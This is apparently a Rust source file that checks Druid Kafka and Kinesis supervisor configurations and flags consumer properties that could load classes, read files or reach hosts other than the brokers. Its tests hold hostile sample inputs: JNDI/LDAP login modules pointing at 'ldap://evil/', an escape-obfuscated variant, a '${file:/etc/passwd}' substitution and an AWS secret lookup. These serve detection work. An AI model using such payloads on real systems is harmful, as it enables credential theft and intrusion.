//! What a stream's supervisor reaches: its servers, and nothing that its properties could make of a
//! client.
//!
//! A Kafka consumer's properties name classes, files, providers of values and other addresses: one
//! that is not known to do nothing of the kind makes the input one of which it is not told what it
//! reaches.

use super::Reader;
use super::address::{host_and_port, host_of};
use super::inputs::Reach;
use crate::json::{Kind, Node};

/// Properties that connect, wait and count, and nothing else. Those of TLS name files whose content
/// is a key or nothing.
const PROPERTIES: [&str; 46] = [
    "allow.auto.create.topics",
    "auto.commit.interval.ms",
    "auto.offset.reset",
    "bootstrap.servers",
    "check.crcs",
    "client.dns.lookup",
    "client.id",
    "client.rack",
    "connections.max.idle.ms",
    "default.api.timeout.ms",
    "enable.auto.commit",
    "exclude.internal.topics",
    "fetch.max.bytes",
    "fetch.max.wait.ms",
    "fetch.min.bytes",
    "group.id",
    "group.instance.id",
    "heartbeat.interval.ms",
    "isolation.level",
    "max.partition.fetch.bytes",
    "max.poll.interval.ms",
    "max.poll.records",
    "metadata.max.age.ms",
    "receive.buffer.bytes",
    "reconnect.backoff.max.ms",
    "reconnect.backoff.ms",
    "request.timeout.ms",
    "retry.backoff.ms",
    "sasl.jaas.config",
    "sasl.mechanism",
    "security.protocol",
    "send.buffer.bytes",
    "session.timeout.ms",
    "socket.connection.setup.timeout.max.ms",
    "socket.connection.setup.timeout.ms",
    "ssl.cipher.suites",
    "ssl.enabled.protocols",
    "ssl.endpoint.identification.algorithm",
    "ssl.key.password",
    "ssl.keystore.location",
    "ssl.keystore.password",
    "ssl.keystore.type",
    "ssl.protocol",
    "ssl.truststore.location",
    "ssl.truststore.password",
    "ssl.truststore.type",
];

/// Of these a provider may take the value from the environment: they go to the servers alone, as
/// what they are.
const FROM_ENVIRONMENT: [&str; 4] = [
    "sasl.jaas.config",
    "ssl.key.password",
    "ssl.keystore.password",
    "ssl.truststore.password",
];

/// Login modules that look nothing up.
const LOGIN_MODULES: [&str; 4] = [
    "org.apache.kafka.common.security.plain.PlainLoginModule",
    "org.apache.kafka.common.security.scram.ScramLoginModule",
    "org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule",
    "software.amazon.msk.auth.iam.IAMLoginModule",
];

/// Goes with the last of them.
const IAM_CALLBACK: &str = "software.amazon.msk.auth.iam.IAMClientCallbackHandler";

const PROVIDER: &str = "druid.dynamic.config.provider";

impl Reader {
    /// Reads the `ioConfig` of a stream's supervisor or task.
    pub(super) fn stream_input(&mut self, io: Option<Node<'_>>, type_id: &str) {
        let mut reach = Reach::default();
        let io = io.filter(|io| io.kind() == Kind::Object);
        match (type_id, io) {
            ("kafka", Some(io)) => kafka(io, &mut reach),
            ("kinesis", Some(io)) => kinesis(io, &mut reach),
            _ => reach.is_odd = true,
        }
        self.input(type_id, reach);
    }
}

fn kafka(io: Node<'_>, reach: &mut Reach) {
    let overrides = io.get("configOverrides").filter(|value| !value.is_null());
    reach.is_odd |= overrides.is_some();
    let Some(properties) = io
        .get("consumerProperties")
        .filter(|map| map.kind() == Kind::Object)
    else {
        reach.is_odd = true;
        return;
    };
    match properties.get("bootstrap.servers").and_then(Node::as_str) {
        Some(servers) => {
            for server in servers.split(',') {
                match host_and_port(server.trim()) {
                    Some(host) => reach.host(host),
                    None => reach.is_odd = true,
                }
            }
        }
        None => reach.is_odd = true,
    }
    for (name, value) in properties.entries() {
        let name = name.as_str().unwrap_or_default();
        reach.is_odd |= match &*name {
            PROVIDER => !value.is_null() && !is_harmless_provider(value),
            name => !is_harmless(name, value),
        };
    }
}

/// Does a property do nothing but connect?
fn is_harmless(name: &str, value: Node<'_>) -> bool {
    let text = match value.kind() {
        Kind::String => value.as_str().unwrap_or_default(),
        Kind::Null | Kind::Boolean | Kind::Number => return PROPERTIES.contains(&name),
        // A provider of a password: it takes it from where the operator put it.
        Kind::Object => return FROM_ENVIRONMENT.contains(&name),
        Kind::Array => return false,
    };
    // Kafka fills `${…}` in.
    let is_plain = PROPERTIES.contains(&name) && !text.contains("${");
    match name {
        "sasl.jaas.config" => is_plain && is_harmless_login(&text),
        "ssl.keystore.location" | "ssl.truststore.location" => is_plain && is_file(&text),
        "sasl.client.callback.handler.class" => text == IAM_CALLBACK,
        _ => is_plain,
    }
}

/// Is a file like any other? A device has no end.
fn is_file(path: &str) -> bool {
    let inside = |folder: &str| path.trim_start_matches('/').starts_with(folder);
    let is_device = ["dev/", "proc/", "sys/"].into_iter().any(inside);
    !is_device && !path.split('/').any(|part| matches!(part, "." | ".."))
}

/// Is a JAAS configuration one login module that looks nothing up? Its reader knows escapes and
/// comments (`StreamTokenizer`), so none of them may be there.
fn is_harmless_login(text: &str) -> bool {
    let text = text.trim();
    let Some(entry) = text.strip_suffix(';') else {
        return false;
    };
    let is_odd =
        entry.contains(['\\', ';', '\'']) || ["//", "/*"].iter().any(|two| entry.contains(two));
    let mut words = entry.split_whitespace();
    let is_known = words
        .next()
        .is_some_and(|module| LOGIN_MODULES.contains(&module));
    is_known && !is_odd
}

/// Of the two providers that Druid has one holds the properties itself, the other names environment
/// variables for them.
fn is_harmless_provider(provider: Node<'_>) -> bool {
    let type_id = provider.get("type").and_then(Node::as_str);
    match type_id.as_deref() {
        Some("mapString") => {
            let map = provider
                .get("config")
                .filter(|map| map.kind() == Kind::Object);
            map.is_some_and(|map| {
                map.entries().all(|(name, value)| {
                    let name = name.as_str().unwrap_or_default();
                    name != "bootstrap.servers" && is_harmless(&name, value)
                })
            })
        }
        Some("environment") => {
            let map = provider
                .get("variables")
                .filter(|map| map.kind() == Kind::Object);
            map.is_some_and(|map| {
                map.entries().all(|(name, _)| {
                    name.as_str()
                        .is_some_and(|name| FROM_ENVIRONMENT.contains(&&*name))
                })
            })
        }
        _ => false,
    }
}

fn kinesis(io: Node<'_>, reach: &mut Reach) {
    let text = |name| io.get(name).filter(|value: &Node<'_>| !value.is_null());
    let host = match (text("endpoint"), text("region")) {
        (Some(endpoint), _) => endpoint.as_str().and_then(|text| host_of(text.trim())),
        // Druid takes this region without one.
        (None, None) => Some("kinesis.us-east-1.amazonaws.com".to_owned()),
        (None, Some(region)) => region.as_str().and_then(|region| {
            let is_name = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'-';
            let is_plain = !region.is_empty() && region.bytes().all(is_name);
            let region = region.to_ascii_lowercase();
            let end = if region.starts_with("cn-") { ".cn" } else { "" };
            is_plain.then(|| format!("kinesis.{region}.amazonaws.com{end}"))
        }),
    };
    match host {
        Some(host) => reach.host(host),
        None => reach.is_odd = true,
    }
}

#[cfg(test)]
mod tests {
    use bytes::Bytes;

    use super::*;
    use crate::json::{Document, Limits};

    #[test]
    fn properties_that_only_connect_are_told() {
        for (more, is_told) in [
            (r#""group.id":"g""#, true),
            (
                r#""fetch.max.bytes":5,"security.protocol":"SASL_SSL""#,
                true,
            ),
            (
                r#""sasl.jaas.config":"org.apache.kafka.common.security.plain.PlainLoginModule required username=\"u\" password=\"p\";""#,
                true,
            ),
            (
                r#""ssl.truststore.location":"/etc/kafka/trust.jks","ssl.truststore.password":{"type":"environment","variable":"P"}"#,
                true,
            ),
            (
                r#""druid.dynamic.config.provider":{"type":"environment","variables":{"sasl.jaas.config":"JAAS"}}"#,
                true,
            ),
            (
                r#""druid.dynamic.config.provider":{"type":"mapString","config":{"group.id":"g"}}"#,
                true,
            ),
            (
                r#""sasl.jaas.config":"com.sun.security.auth.module.JndiLoginModule required user.provider.url=\"ldap://evil/\";""#,
                false,
            ),
            (
                r#""sasl.jaas.config":"org.apache.kafka.common.security.plain.PlainLoginModule required; com.sun.security.auth.module.LdapLoginModule required;""#,
                false,
            ),
            (r#""sasl.jaas.config":"""#, false),
            (
                r#""sasl.jaas.config":"org.apache.kafka.common.security.plain.PlainLoginModule required; \"com.sun.security.auth.module.L\\144apLoginModul\\145\" required userProvider=\"l\\144ap://evil/x\";""#,
                false,
            ),
            (
                r#""sasl.jaas.config":"org.apache.kafka.common.security.plain.PlainLoginModule required /* */ x;""#,
                false,
            ),
            (
                r#""sasl.jaas.config":"software.amazon.msk.auth.iam.IAMLoginModule required;","sasl.client.callback.handler.class":"software.amazon.msk.auth.iam.IAMClientCallbackHandler""#,
                true,
            ),
            (r#""ssl.truststore.location":"/dev/zero""#, false),
            (r#""ssl.truststore.location":"/etc/../proc/self/x""#, false),
            (r#""client.id":"${file:/etc/passwd:x}""#, false),
            (r#""config.providers":"file""#, false),
            (r#""interceptor.classes":"x""#, false),
            (r#""key.deserializer":"x""#, false),
            (
                r#""sasl.oauthbearer.token.endpoint.url":"http://evil/""#,
                false,
            ),
            (r#""sasl.login.callback.handler.class":"x""#, false),
            (r#""anything.new":"x""#, false),
            (r#""client.id":["x"]"#, false),
            (
                r#""druid.dynamic.config.provider":{"type":"environment","variables":{"client.id":"AWS_SECRET_ACCESS_KEY"}}"#,
                false,
            ),
            (
                r#""druid.dynamic.config.provider":{"type":"mapString","config":{"bootstrap.servers":"evil:9092"}}"#,
                false,
            ),
            (
                r#""druid.dynamic.config.provider":{"config":{"interceptor.classes":"x"}}"#,
                false,
            ),
            (r#""druid.dynamic.config.provider":{"type":"acme"}"#, false),
        ] {
            let text = format!(
                r#"{{"consumerProperties":{{"bootstrap.servers":"a:9092, b:9092",{more}}}}}"#
            );
            let document = Document::read(Bytes::from(text), &Limits::default()).expect("JSON");
            let mut reader = Reader::default();
            reader.stream_input(Some(document.root()), "kafka");
            let [input] = reader.inputs.as_slice() else {
                panic!("{:?}", reader.inputs)
            };
            assert_eq!(input.hosts, ["a", "b"]);
            assert_eq!(input.is_told, is_told, "{more}");
        }
    }
}
